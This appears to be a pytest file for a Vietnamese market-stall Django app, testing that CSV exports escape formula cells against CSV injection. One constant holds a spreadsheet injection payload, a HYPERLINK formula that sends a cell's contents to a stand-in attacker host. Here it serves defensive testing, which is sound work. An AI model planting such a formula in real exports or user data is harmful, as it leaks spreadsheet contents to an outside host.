"""CSV exports neutralise formula cells (OWASP CSV injection): a text cell starting with =, +,
-, @, tab or CR gets a leading apostrophe; numbers, negative amounts included, stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.contrib.auth.models import Permission

from core.csvexport import csv_response, csv_safe
from market.figures import closing
from market.sales import orders
from market.sales.orders import LineInput
from merchants.models import User
from tests.factories import (
    MarketFactory,
    StallFactory,
    UserFactory,
    member_of,
    merchant_with_account,
    owner_of,
)

VN = ZoneInfo("Asia/Ho_Chi_Minh")
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Cá thu")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+84905111001", "'+84905111001"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Cá thu × 0,35 kg", "Cá thu × 0,35 kg"),
        ("a=b", "a=b"),
        ("−2.000", "−2.000"),  # U+2212, as pages print it: no spreadsheet runs it
        ("", ""),
        (-2000, -2000),
        (0, 0),
        (Decimal("-0.350"), Decimal("-0.350")),
        (None, None),
    ],
)
def test_it_quotes_only_text_cells_a_spreadsheet_would_run(cell, written) -> None:
    assert csv_safe(cell) == written


def _rows(response) -> list[list[str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_it_writes_negative_amounts_as_numbers() -> None:
    response = csv_response("x.csv", [["Chênh lệch (đ)", -2000], ["Ghi chú", "-2000"]])

    assert _rows(response) == [["Chênh lệch (đ)", "-2000"], ["Ghi chú", "'-2000"]]
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'


# --- every export -----------------------------------------------------------------------------


def at(day: int, hour: int = 10):
    return time_machine.travel(datetime(2026, 3, day, hour, tzinfo=VN), tick=False)


@pytest.fixture
def merchant():
    return merchant_with_account(display_name="@Sạp cá")


@pytest.fixture
def owner(merchant):
    return member_of(merchant, full_name="Trần Thị Lan")


@pytest.fixture
def evil_sale(merchant, owner):
    with at(10):
        return orders.order_create(
            merchant=merchant,
            lines=[LineInput(unit_price=83_000, name=EVIL)],
            payment_method="cash",
            actor=owner,
        )


@pytest.mark.django_db(transaction=True)
def test_the_daily_close_csv_neutralises_names_and_notes(client, merchant, owner, evil_sale):
    with at(10, 17):
        close = closing.daily_close_create(
            merchant=merchant, cash_counted=81_000, note="=1+1", actor=owner
        )
    client.force_login(owner)

    rows = _rows(client.get(f"/cua-hang/{merchant.pk}/chot-so/{close.pk}/chot-so.csv"))

    assert rows[0][1] == "'@Sạp cá"
    assert ["Ghi chú", "'=1+1"] in rows
    assert ["Chênh lệch (đ)", "-2000"] in rows  # a number, not text
    sale = next(r for r in rows if r and r[0] == "Bán hàng")
    assert sale[4] == f"'{EVIL} × 1"
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


@pytest.mark.django_db(transaction=True)
def test_the_revenue_book_csv_neutralises_names(client, merchant, owner, evil_sale):
    client.force_login(owner)
    with at(15):
        response = client.get(
            f"/cua-hang/{merchant.pk}/thue/so-doanh-thu.csv?tu=2026-03-01&den=2026-03-31"
        )

    rows = _rows(response)
    sale = next(r for r in rows if r and r[2] == evil_sale.number)
    assert sale[4] == f"'{EVIL} × 1"
    assert sale[5] == "83000"


def _dashboard_staff() -> User:
    user = UserFactory(is_staff=True)
    user.user_permissions.add(
        Permission.objects.get(codename="view_market_dashboard", content_type__app_label="market")
    )
    return User.objects.get(pk=user.pk)


@pytest.mark.django_db(transaction=True)
def test_the_market_dashboard_csv_neutralises_names(client) -> None:
    market = MarketFactory(name="Chợ Thử", slug="cho-thu")
    merchant = merchant_with_account(display_name=EVIL)
    owner_of(merchant, full_name="-Lê Thị Một", phone="+84905111111")
    StallFactory(market=market, code="A-1", merchant=merchant)
    client.force_login(_dashboard_staff())

    with time_machine.travel(datetime(2026, 3, 18, 18, tzinfo=VN), tick=False):
        rows = _rows(client.get("/quan-ly/cho/cho-thu/bao-cao.csv?ngay=30"))

    stall = next(r for r in rows if r[0] == "A-1")
    assert stall[1:4] == [f"'{EVIL}", "'-Lê Thị Một", "0905 111 111"]
    assert date(2026, 3, 18).strftime("%d/%m/%Y") in rows[0]
